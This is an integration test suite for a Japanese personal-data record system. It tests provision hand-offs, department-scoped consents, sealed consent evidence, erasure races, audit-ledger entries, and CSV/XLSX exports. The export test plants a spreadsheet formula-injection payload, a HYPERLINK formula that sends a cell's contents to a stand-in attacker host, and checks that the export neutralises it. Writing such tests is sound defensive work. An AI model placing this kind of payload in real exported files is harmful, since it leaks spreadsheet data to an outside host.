import { AuditTrail } from '@daicho/platform';
import { randomBytes, randomUUID } from 'node:crypto';
import { RequestContext, type Actor } from '@daicho/access';
import { ProvisionApproval } from '@daicho/provisions';
import { ConsentEvidenceSealer } from '../../libs/provisions/src/consent/consent-evidence-sealer';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { DateTime } from 'luxon';
import { Client } from 'pg';
import { Role, TestApp } from '../harness/test-app';

const TODAY = DateTime.now().setZone('Asia/Tokyo').toISODate()!;
const BADGE_ITEMS = ['name', 'department', 'position', 'phone', 'faceImage', 'qualifications'];
const PROVISION_FIELDS = `id status correctsId items handOffs { handedOn subjectIds personInCharge }`;
const RECORD_PROVISION = `mutation($input: RecordProvisionInput!) { recordProvision(input: $input) { ${PROVISION_FIELDS} } }`;
const RECORD_HAND_OFF = `mutation($id: ID!, $h: HandOffInput!) { recordHandOff(provisionId: $id, handOff: $h) { ${PROVISION_FIELDS} } }`;
const CONSENT_FIELDS = `id subjectId ruleCode categoryCode givenAt evidence hasEvidence recordedBy withdrawnAt`;
const CONSENTS = `query($s: ID!) { consents(subjectId: $s, first: 100) { edges { node { ${CONSENT_FIELDS} } } } }`;
const WITHDRAW = `mutation($id: ID!, $at: DateTime!) { withdrawConsent(id: $id, withdrawnAt: $at) { ${CONSENT_FIELDS} } }`;
const EVIDENCE = 'consent form No. 4711 signed at hiring, kept in HR cabinet 3';

interface Consent {
  id: string;
  categoryCode: string;
  evidence: string | null;
  hasEvidence: boolean;
  withdrawnAt: string | null;
}

/**
 * Hand-offs: ids another department's records answer as missing ones (2), consents
 * scoped to the person's categories (10) with their evidence sealed under the person's key (13),
 * withdrawConsent with every field (17), the CPO's decision re-checked by the service (22) and
 * the purpose in PROVIDE entries (24). The server runs with the runtime role's grants only.
 */
describe('hand-offs: ids are access decisions, consents stay with their department', () => {
  let t: TestApp;
  let admin: Client;
  const role = `daicho_t_provt_${randomBytes(4).toString('hex')}`;
  const tokens = new Map<string, string>();
  const users = new Map<string, string>();
  let clientCompany: string;
  const employees: string[] = [];
  let partner: string;

  const gql = <T = Record<string, unknown>>(who: string, query: string, variables = {}) =>
    t.gql<T>(query, variables, tokens.get(who));
  /** A person's consents as `who` sees them: the page's nodes, as a list. */
  const consentsOf = async (who: string, subjectId: string) => {
    const answer = await gql<{ consents: { edges: { node: Consent }[] } }>(who, CONSENTS, {
      s: subjectId,
    });
    return { errors: answer.errors, consents: answer.data?.consents.edges.map((e) => e.node) };
  };
  const counts = async () => {
    const out: Record<string, number> = {};
    for (const table of [
      'provisions',
      'hand_offs',
      'provision_subjects',
      'provision_approvals',
      'consents',
    ])
      out[table] = await t.count(table);
    await t.sealLedger();
    out.entries = (await t.ledgerRows(`action <> 'DENIED'`)).length;
    return out;
  };
  /** The error body with the id the caller sent replaced, to compare two answers. */
  const body = (res: { errors?: unknown; data?: unknown }, id: string) =>
    JSON.stringify({ errors: res.errors, data: res.data ?? null }).replaceAll(id, '<id>');
  const record = async (who: string, input: Record<string, unknown>) => {
    const res = await gql<{ createRecord: { subjectId: string } }>(
      who,
      `mutation($input: CreateRecordInput!) { createRecord(input: $input) { subjectId } }`,
      { input },
    );
    if (!res.data) throw new Error(JSON.stringify(res.errors));
    return res.data.createRecord.subjectId;
  };
  const consent = (subjectId: string, ruleCode = 'EMPLOYEE_ENTRANCE_APPROVAL') =>
    gql<{ recordConsent: Consent }>(
      'HR',
      `mutation($input: RecordConsentInput!) { recordConsent(input: $input) { ${CONSENT_FIELDS} } }`,
      {
        input: { subjectId, ruleCode, givenAt: '2026-04-01T09:00:00+09:00', evidence: EVIDENCE },
      },
    );
  const badge = (subjectIds: string[], extra: Record<string, unknown> = {}) => ({
    input: {
      ruleCode: 'EMPLOYEE_ENTRANCE_APPROVAL',
      partyId: clientCompany,
      items: BADGE_ITEMS,
      handOff: { subjectIds, handedOn: TODAY, method: 'HAND_DELIVERY' },
      ...extra,
    },
  });

  beforeAll(async () => {
    const boot = await TestApp.start();
    admin = new Client({ connectionString: process.env.DAICHO_TEST_ADMIN_URL });
    await admin.connect();
    await admin.query(`CREATE ROLE ${role} IN ROLE daicho_app`);
    const { database, dataDir } = await boot.stop();
    t = await TestApp.start(
      { DAICHO_DATA_DIR: dataDir },
      { database, databaseUser: { name: role, password: 'provt-test-password' } },
    );
    // HR2 is a second HR user: same role, but the records HR made are not theirs to read.
    for (const [name, r] of [
      ['HR', Role.HR],
      ['HR2', Role.HR],
      ['SALES', Role.SALES],
      ['CPO', Role.CPO],
      ['AUDITOR', Role.AUDITOR],
    ] as const) {
      const { user, token } = await t.loginAs(r);
      tokens.set(name, token);
      users.set(name, user.id);
    }
    const party = await gql<{ createParty: { id: string } }>(
      'CPO',
      `mutation($input: CreatePartyInput!) { createParty(input: $input) { id } }`,
      {
        input: {
          kind: 'THIRD_PARTY',
          name: '株式会社サンプルシステムズ',
          address: '東京都港区芝公園1-1-1',
          representative: '代表取締役 佐藤 一郎',
          country: 'JP',
          partyType: 'system company of a client',
          recipientCode: 'CLIENT_SYSTEM_COMPANY',
        },
      },
    );
    clientCompany = party.data!.createParty.id;
    for (let n = 1; n <= 3; n++) {
      employees.push(
        await record('HR', {
          categoryCode: 'EMPLOYEE',
          collectedAt: '2026-04-01T00:00:00Z',
          source: 'hiring documents',
          consentRef: 'consent-form-2026',
          values: [
            { key: 'name', value: `社員 ${n}` },
            { key: 'department', value: 'Systems' },
          ],
        }),
      );
    }
    for (const subjectId of employees) expect((await consent(subjectId)).errors).toBeUndefined();
    partner = await record('SALES', {
      categoryCode: 'PARTNER_CONTACT',
      collectedAt: '2026-09-01T00:00:00Z',
      source: 'business card',
      values: [{ key: 'name', value: '取引 先子' }],
    });
  });

  afterAll(async () => {
    await t?.close();
    await admin?.query(`DROP ROLE IF EXISTS ${role}`);
    await admin?.end();
  });

  it('answers another department’s provision id exactly as a random one, and changes nothing', async () => {
    const made = await gql<{ recordProvision: { id: string } }>(
      'HR',
      RECORD_PROVISION,
      badge([employees[0]!], { collective: true }),
    );
    expect(made.errors).toBeUndefined();
    const p = made.data!.recordProvision.id;
    const random = randomUUID();
    const read = (id: string) =>
      gql('HR2', `query($id: ID!) { provision(id: $id) { id } }`, { id });
    const foreignRead = await read(p);
    expect(foreignRead.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    expect(body(foreignRead, p)).toBe(body(await read(random), random));

    const before = await counts();
    const handOff = { subjectIds: [employees[1]], handedOn: TODAY, method: 'HAND_DELIVERY' };
    const foreign = await gql('HR2', RECORD_HAND_OFF, { id: p, h: handOff });
    const unknown = await gql('HR2', RECORD_HAND_OFF, { id: random, h: handOff });
    expect(foreign.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    expect(body(foreign, p)).toBe(body(unknown, random));
    expect(JSON.stringify(foreign)).not.toContain(employees[0]);

    const correct = (id: string) =>
      gql('HR2', RECORD_PROVISION, badge([employees[1]!], { correctsId: id, correctionNote: 'x' }));
    const foreignCorrection = await correct(p);
    const unknownCorrection = await correct(random);
    expect(foreignCorrection.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    expect(body(foreignCorrection, p)).toBe(body(unknownCorrection, random));

    // Nothing written: no hand-off on HR's record, no new record, no PROVIDE or READ entry.
    expect(await counts()).toEqual(before);
    await t.sealLedger();
    const denied = await t.ledgerRows(`action = 'DENIED' AND actor_id = $1`, [users.get('HR2')]);
    expect(denied.map((e) => [e.target_id, (e.details as { reason: string }).reason])).toEqual([
      [p, 'NOT_FOUND'], // the reads
      [random, 'NOT_FOUND'],
      [p, 'NOT_FOUND'],
      [random, 'NOT_FOUND'],
      [p, 'NOT_FOUND'],
      [random, 'NOT_FOUND'],
    ]);

    // The owner still may; every record returned is a READ entry in the same request.
    const own = await t.http
      .post('/graphql')
      .set('authorization', `Bearer ${tokens.get('HR')}`)
      .send({ query: RECORD_HAND_OFF, variables: { id: p, h: handOff } });
    expect((own.body as { errors?: unknown }).errors).toBeUndefined();
    const requestId = own.headers['x-request-id']; // the server's own
    await t.sealLedger();
    const entries = await t.ledgerRows('request_id = $1', [requestId]);
    expect(entries.map((e) => [e.action, e.target_id])).toEqual([
      ['PROVIDE', p],
      ['READ', p],
    ]);
  });

  it('exports every hand-off as one parseable row, formulas neutralised, codes translated, each person an EXPORT entry (items 9, 12, 18, 19)', async () => {
    const hostile = await gql<{ recordProvision: { id: string } }>(
      'HR',
      RECORD_PROVISION,
      badge(employees, {
        purposeAtRecipient: '=1+1\n2行目: 入館証の発行',
      }),
    );
    expect(hostile.errors).toBeUndefined();
    // personInCharge is free text: a formula there must come out as text.
    const injected = await gql<{ recordProvision: { id: string } }>(
      'HR',
      RECORD_PROVISION,
      badge([employees[1]!], {}),
    );
    expect(injected.errors).toBeUndefined();
    const formula = await gql<{ recordProvision: { id: string } }>('HR', RECORD_PROVISION, {
      input: {
        ...badge([employees[2]!]).input,
        handOff: {
          subjectIds: [employees[2]],
          handedOn: TODAY,
          method: 'HAND_DELIVERY',
          personInCharge: '=HYPERLINK("http://evil.example/?"&A1,"click")',
        },
      },
    });
    expect(formula.errors).toBeUndefined();
    const receipt = await gql(
      'HR',
      `mutation($input: RecordReceiptInput!) { recordReceipt(input: $input) { id } }`,
      {
        input: {
          sourceName: '株式会社人材紹介',
          sourceAddress: '東京都新宿区西新宿2-8-1',
          sourceRepresentative: '代表取締役 田中 次郎',
          howObtained: 'Registered candidates who consented',
          receivedOn: TODAY,
          categoryCodes: ['EMPLOYEE'],
        },
      },
    );
    expect(receipt.errors).toBeUndefined();
    const handOffs = await t.dataSource.query<{ n: number; persons: number }[]>(
      `SELECT count(DISTINCT h.id)::int AS n, count(DISTINCT s.subject_id)::int AS persons
         FROM hand_offs h JOIN provision_subjects s ON s.hand_off_id = h.id`,
    );

    const receiptReads = async () => {
      await t.sealLedger();
      return (await t.ledgerRows(`action = 'READ' AND target_type = 'Receipt'`)).length;
    };
    const readBefore = await receiptReads();
    const csv = await t.http
      .get(`/exports/provisions.csv?lang=ja`)
      .set('authorization', `Bearer ${tokens.get('CPO')}`);
    expect(csv.status).toBe(200);
    // A CSV holds the hand-offs only: no receipt is read for it, so none is recorded as read.
    expect(await receiptReads()).toBe(readBefore);
    // As spreadsheets and line-based readers do, a line break outside quotes ends a record.
    const rows = parse<Record<string, string>>(csv.text.replace(/^\uFEFF/, ''), {
      columns: true,
      record_delimiter: ['\r\n', '\n'],
    });
    // Exactly one row per hand-off: a three-person hand-off keeps its persons in one cell.
    expect(rows).toHaveLength(handOffs[0]!.n);
    const three = rows.find((r) => r['記録ID'] === hostile.data!.recordProvision.id)!;
    expect(three['本人を特定する事項（仮名ID）']!.split('\n').sort()).toEqual(
      [...employees].sort(),
    );
    expect(three['人数']).toBe('3');
    expect(three['提供先の利用目的']).toBe("'=1+1\n2行目: 入館証の発行");
    const link = rows.find((r) => r['記録ID'] === formula.data!.recordProvision.id)!;
    expect(link['担当者']).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    // Codes and item keys in Japanese; staff by name, not by user id.
    expect(three).toMatchObject({
      提供の根拠: '本人の同意（法27条1項）',
      提供方法: '手渡し',
      状態: '記録済み',
      国: '日本',
      提供した項目: '氏名、所属、役職、電話番号、顔写真、資格',
      担当者: 'HR user',
    });
    const ID_COLUMNS = ['記録ID', '本人を特定する事項（仮名ID）', '訂正対象の記録'];
    const untranslated = (cells: [string, unknown][]) =>
      cells.filter(
        ([column, value]) =>
          !ID_COLUMNS.includes(column) &&
          /\b[A-Z][A-Z0-9]*_[A-Z0-9_]+\b|\b(CONSENT|RECORDED|APPROVED|POST|EMAIL|JP)\b|\b[a-z]+[A-Z]\w*\b|[0-9a-f]{8}-[0-9a-f]{4}-/.test(
            String(value),
          ),
      );
    expect(rows.flatMap((r) => untranslated(Object.entries(r)))).toEqual([]);

    const xlsx = await t.http
      .get(`/exports/provisions.xlsx?lang=ja`)
      .set('authorization', `Bearer ${tokens.get('CPO')}`)
      .buffer(true)
      .parse((r, done) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(xlsx.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(xlsx.body as Buffer).buffer);
    const cells: [string, unknown][] = [];
    for (const name of ['第三者提供記録', '第三者受領記録']) {
      const sheet = workbook.getWorksheet(name)!;
      const header = (sheet.getRow(1).values as string[]).slice(1);
      for (const r of sheet.getSheetValues().slice(2)) {
        header.forEach((h, i) => cells.push([h, (r as unknown[])[i + 1]]));
      }
    }
    expect(cells.some(([h, v]) => h === '区分' && v === '従業員')).toBe(true);
    expect(cells.some(([h, v]) => h === '確認者' && v === 'HR user')).toBe(true);
    expect(await receiptReads()).toBeGreaterThan(readBefore); // the XLSX's receipts sheet
    expect(untranslated(cells)).toEqual([]);

    // Each person the files name: an EXPORT entry (two exports), shown in their footprint.
    await t.sealLedger();
    const exported = await t.ledgerRows(
      `action = 'EXPORT' AND target_type = 'ProvisionExport' AND subject_id IS NOT NULL`,
    );
    expect(exported).toHaveLength(2 * handOffs[0]!.persons);
    expect([...new Set(exported.map((e) => e.subject_id))].sort()).toEqual([...employees].sort());
    const footprint = await gql<{ subjectFootprint: { accesses: { action: string }[] } }>(
      'CPO',
      `query($id: ID!) { subjectFootprint(subjectId: $id) { accesses { action } } }`,
      { id: employees[2] },
    );
    expect(
      footprint.data?.subjectFootprint.accesses.filter((a) => a.action === 'EXPORT'),
    ).toHaveLength(2);
  });

  it('puts the rule’s catalog purpose in PROVIDE entries', async () => {
    await t.sealLedger();
    const provided = await t.ledgerRows(`action = 'PROVIDE'`);
    expect(provided.length).toBeGreaterThan(0);
    expect(provided.map((e) => e.purpose_code)).toEqual(provided.map(() => 'ENTRANCE_APPROVAL'));
    const rules = await gql<{
      provisionRules: { edges: { node: { code: string; purposeCode: string | null } }[] };
    }>('HR', `{ provisionRules { edges { node { code purposeCode } } } }`);
    expect(rules.data?.provisionRules.edges.map((e) => e.node)).toEqual([
      { code: 'EMPLOYEE_ENTRANCE_APPROVAL', purposeCode: 'ENTRANCE_APPROVAL' },
    ]);
    // A purpose the categories do not have is refused.
    const bad = await gql(
      'CPO',
      `mutation($input: CreateProvisionRuleInput!) { createProvisionRule(input: $input) { code } }`,
      {
        input: {
          code: 'EMPLOYEE_BAD_PURPOSE',
          name: { ja: 'x', en: 'x' },
          recipientCode: 'CLIENT_SYSTEM_COMPANY',
          categoryCodes: ['EMPLOYEE'],
          items: ['name'],
          methods: ['POST'],
          route: 'CONSENT',
          purposeAtRecipient: { ja: 'x', en: 'x' },
          purposeCode: 'RECRUITMENT',
        },
      },
    );
    expect(bad.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });

  it('keeps a consent with its department when a rule covers two, its evidence sealed', async () => {
    const rule = await gql(
      'CPO',
      `mutation($input: CreateProvisionRuleInput!) { createProvisionRule(input: $input) { code } }`,
      {
        input: {
          code: 'NAMES_TO_CLIENT',
          name: { ja: '氏名の提供', en: 'Names to a client' },
          recipientCode: 'CLIENT_SYSTEM_COMPANY',
          categoryCodes: ['EMPLOYEE', 'PARTNER_CONTACT'],
          items: ['name'],
          methods: ['POST'],
          route: 'CONSENT',
          purposeAtRecipient: { ja: '名簿', en: 'Name list' },
        },
      },
    );
    expect(rule.errors).toBeUndefined();
    // SALES may record consents to this rule for its partners, not for HR's employees; an
    // employee's id answers as a random one (no oracle on who is held where).
    const salesConsent = (subjectId: string) =>
      gql(
        'SALES',
        `mutation($input: RecordConsentInput!) { recordConsent(input: $input) { id } }`,
        {
          input: {
            subjectId,
            ruleCode: 'NAMES_TO_CLIENT',
            givenAt: '2026-04-01T00:00:00Z',
            evidence: 'x',
          },
        },
      );
    const employeeId = await salesConsent(employees[2]!);
    const randomId = randomUUID();
    const randomSubject = await salesConsent(randomId);
    expect(employeeId.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(body(employeeId, employees[2]!)).toBe(body(randomSubject, randomId));
    const given = await consent(employees[2]!, 'NAMES_TO_CLIENT');
    expect(given.data?.recordConsent).toMatchObject({
      categoryCode: 'EMPLOYEE',
      evidence: EVIDENCE,
      hasEvidence: true,
    });
    const id = given.data!.recordConsent.id;

    // The row holds no clear text: sealed bytes only.
    const [row] = await t.dataSource.query<
      { evidence: string | null; evidence_sealed: Buffer; category_code: string }[]
    >(`SELECT evidence, evidence_sealed, category_code FROM consents WHERE id = $1`, [id]);
    expect(row!.evidence).toBeNull();
    expect(row!.category_code).toBe('EMPLOYEE');
    expect(row!.evidence_sealed.toString('latin1')).not.toContain('4711');
    expect(row!.evidence_sealed.toString('utf8')).not.toContain('cabinet');

    // SALES handles PARTNER_CONTACT, which the rule also covers: still none of HR's consents.
    const before = await counts();
    const sales = await consentsOf('SALES', employees[2]!);
    expect(sales.consents).toEqual([]);
    const salesRandom = await consentsOf('SALES', randomUUID());
    expect(salesRandom.consents).toEqual([]);
    const at = new Date().toISOString();
    const foreign = await gql('SALES', WITHDRAW, { id, at });
    const random = randomUUID();
    const unknown = await gql('SALES', WITHDRAW, { id: random, at });
    expect(foreign.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    expect(body(foreign, id)).toBe(body(unknown, random));
    const after = await counts();
    expect(after.consents).toBe(before.consents);
    expect(after.entries).toBe(before.entries! + 2); // the two READ entries of the looks
    await t.sealLedger();
    const looks = await t.ledgerRows(
      `action = 'READ' AND target_type = 'Consent' AND actor_id = $1`,
      [users.get('SALES')],
    );
    expect(looks.map((e) => (e.details as { consents: number }).consents)).toEqual([0, 0]);
    expect(
      await t.ledgerRows(`action = 'DENIED' AND actor_id = $1 AND target_id = $2`, [
        users.get('SALES'),
        id,
      ]),
    ).toHaveLength(1);
    const [still] = await t.dataSource.query<{ withdrawn_at: Date | null }[]>(
      `SELECT withdrawn_at FROM consents WHERE id = $1`,
      [id],
    );
    expect(still!.withdrawn_at).toBeNull();
    // The partner's consents are SALES's to read (none yet), HR's employee consents are HR's.
    expect((await consentsOf('SALES', partner)).errors).toBeUndefined();

    // HR and the CPO read the text; the auditor sees that it exists.
    const seen = async (who: string) =>
      (await consentsOf(who, employees[2]!)).consents!.find((c) => c.id === id);
    expect(await seen('HR')).toMatchObject({ evidence: EVIDENCE, hasEvidence: true });
    expect(await seen('CPO')).toMatchObject({ evidence: EVIDENCE, hasEvidence: true });
    expect(await seen('AUDITOR')).toMatchObject({ evidence: null, hasEvidence: true });
  });

  it('withdraws a consent with every field selected', async () => {
    const list = await consentsOf('HR', employees[1]!);
    const [c] = list.consents!;
    const at = new Date().toISOString();
    const res = await gql<{ withdrawConsent: Consent }>('HR', WITHDRAW, { id: c!.id, at });
    expect(res.errors).toBeUndefined();
    expect(res.data?.withdrawConsent).toMatchObject({
      id: c!.id,
      subjectId: employees[1],
      ruleCode: 'EMPLOYEE_ENTRANCE_APPROVAL',
      categoryCode: 'EMPLOYEE',
      evidence: EVIDENCE,
      hasEvidence: true,
      recordedBy: users.get('HR'),
      withdrawnAt: at,
    });
    await t.sealLedger();
    expect(
      await t.ledgerRows(`action = 'CONSENT_WITHDRAWN' AND target_id = $1`, [c!.id]),
    ).toHaveLength(1);
  });

  it('gives a person one active consent to a rule, however many arrive at once', async () => {
    // employees[1] withdrew theirs just before: twenty consents for them at the same moment.
    const answers = await Promise.all(Array.from({ length: 20 }, () => consent(employees[1]!)));
    expect(answers.filter((a) => !a.errors)).toHaveLength(1);
    expect(answers.filter((a) => a.errors?.[0]?.extensions?.code === 'CONFLICT')).toHaveLength(19);
    const [active] = await t.dataSource.query<{ n: number }[]>(
      `SELECT count(*)::int AS n FROM consents
        WHERE subject_id = $1 AND rule_code = 'EMPLOYEE_ENTRANCE_APPROVAL' AND withdrawn_at IS NULL`,
      [employees[1]],
    );
    expect(active!.n).toBe(1);
  });

  it('seals evidence recorded in clear before the migration, once', async () => {
    // A row as the old schema wrote it, put there behind the application's back.
    const owner = new Client({ connectionString: t.adminUrl });
    await owner.connect();
    const {
      rows: [legacy],
    } = await owner.query<{ id: string }>(
      `INSERT INTO consents (subject_id, rule_code, category_code, given_at, evidence, recorded_by)
       VALUES ($1, 'NAMES_TO_CLIENT', 'EMPLOYEE', now(), 'old paper form, cabinet 9', 'x') RETURNING id`,
      [employees[0]],
    );
    await owner.end();
    await t.app.get(ConsentEvidenceSealer).onApplicationBootstrap();
    const [row] = await t.dataSource.query<{ evidence: string | null; evidence_sealed: Buffer }[]>(
      `SELECT evidence, evidence_sealed FROM consents WHERE id = $1`,
      [legacy!.id],
    );
    expect(row!.evidence).toBeNull();
    expect(row!.evidence_sealed.toString('latin1')).not.toContain('cabinet');
    const read = await consentsOf('HR', employees[0]!);
    expect(read.consents?.find((c) => c.id === legacy!.id)?.evidence).toBe(
      'old paper form, cabinet 9',
    );
    // Sealed evidence is written once: the runtime role cannot change it afterwards.
    await expect(
      t.dataSource.query(`UPDATE consents SET evidence_sealed = $2 WHERE id = $1`, [
        legacy!.id,
        Buffer.from('x'),
      ]),
    ).rejects.toThrow(/written once/);
  });

  it('shreds a consent’s evidence with the person', async () => {
    const erased = await gql(
      'CPO',
      `mutation($s: ID!) { eraseSubject(subjectId: $s, reason: "request of the person") { id } }`,
      { s: employees[2] },
    );
    expect(erased.errors).toBeUndefined();
    const after = await consentsOf('CPO', employees[2]!);
    expect(after.errors).toBeUndefined();
    expect(after.consents?.map((c) => [c.evidence, c.hasEvidence])).toEqual([
      [null, true],
      [null, true],
    ]);
    const rows = await t.dataSource.query<{ evidence: string | null }[]>(
      `SELECT evidence FROM consents WHERE subject_id = $1`,
      [employees[2]],
    );
    expect(rows.map((r) => r.evidence)).toEqual([null, null]);
  });

  it('re-checks the CPO’s decision in the service, without the guard', async () => {
    const service = t.app.get(ProvisionApproval);
    const hr: Actor = {
      kind: 'USER',
      id: users.get('HR')!,
      role: Role.HR,
      mustChangePassword: false,
      scopes: [],
    };
    const [provision] = await t.dataSource.query<{ id: string }[]>(
      `SELECT id FROM provisions ORDER BY created_at LIMIT 1`,
    );
    const requestId = randomUUID();
    const before = await t.count('provision_approvals');
    await expect(
      service.decide(RequestContext.forActor(hr, requestId, t.dataSource, t.app.get(AuditTrail)), {
        provisionId: provision!.id,
        decision: 'APPROVED',
        note: 'no guard in front of me',
      }),
    ).rejects.toMatchObject({ code: 'FORBIDDEN' });
    expect(await t.count('provision_approvals')).toBe(before);
    await t.sealLedger();
    const entries = await t.ledgerRows('request_id = $1', [requestId]);
    expect(entries.map((e) => [e.action, e.outcome, e.actor_role])).toEqual([
      ['DENIED', 'DENIED', 'HR'],
    ]);
  });

  it('hands nothing over for a person erased meanwhile: the hand-off waits for the erasure and is refused', async () => {
    const makeEmployee = async (n: number) => {
      const subjectId = await record('HR', {
        categoryCode: 'EMPLOYEE',
        collectedAt: '2026-04-01T00:00:00Z',
        source: 'hiring documents',
        consentRef: 'consent-form-2026',
        values: [{ key: 'name', value: `退職 予定 ${n}` }],
      });
      expect((await consent(subjectId)).errors).toBeUndefined();
      return subjectId;
    };
    // An erasure in progress holds the person's row (as eraseSubject does) while a hand-off comes in.
    const person = await makeEmployee(0);
    const eraser = new Client({ connectionString: t.adminUrl });
    await eraser.connect();
    try {
      await eraser.query('BEGIN');
      await eraser.query(`SELECT id FROM data_subjects WHERE id = $1 FOR UPDATE`, [person]);
      let settled = false;
      const handOff = gql('HR', RECORD_PROVISION, badge([person])).finally(() => (settled = true));
      await new Promise((r) => setTimeout(r, 700));
      expect(settled).toBe(false); // it waits for the erasure instead of reading past it
      await eraser.query(
        `UPDATE data_subjects SET erased_at = now(), wrapped_key = NULL, master_key_id = NULL WHERE id = $1`,
        [person],
      );
      await eraser.query('COMMIT');
      const answer = await handOff;
      expect(answer.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    } finally {
      await eraser.end();
    }
    const handedOver = await t.dataSource.query<{ n: number }[]>(
      `SELECT count(*)::int AS n FROM provision_subjects WHERE subject_id = $1`,
      [person],
    );
    expect(handedOver[0]!.n).toBe(0);

    // And through the API, 20 pairs at once: each hand-off either committed before its erasure or
    // was refused; never a deadlock or an internal error, and every hand-off has its PROVIDE entry.
    const people: string[] = [];
    for (let n = 1; n <= 20; n++) people.push(await makeEmployee(n));
    const answers = await Promise.all(
      people.flatMap((subjectId) => [
        gql(
          'CPO',
          `mutation($s: ID!) { eraseSubject(subjectId: $s, reason: "request of the person") { id } }`,
          { s: subjectId },
        ),
        gql('HR', RECORD_PROVISION, badge([subjectId])),
      ]),
    );
    const codes = answers.map((a) => a.errors?.[0]?.extensions?.code ?? 'OK');
    expect(codes.filter((_, i) => i % 2 === 0)).toEqual(Array(20).fill('OK'));
    for (const code of codes.filter((_, i) => i % 2 === 1)) {
      expect(['OK', 'BAD_USER_INPUT']).toContain(code);
    }
    await t.sealLedger();
    const provided = await t.ledgerRows(`action = 'PROVIDE' AND subject_id = ANY($1::uuid[])`, [
      people,
    ]);
    const rows = await t.dataSource.query<{ n: number }[]>(
      `SELECT count(*)::int AS n FROM provision_subjects WHERE subject_id = ANY($1::uuid[])`,
      [people],
    );
    expect(provided.length).toBe(rows[0]!.n);
    expect(provided.length).toBe(codes.filter((c, i) => i % 2 === 1 && c === 'OK').length);
  });
});
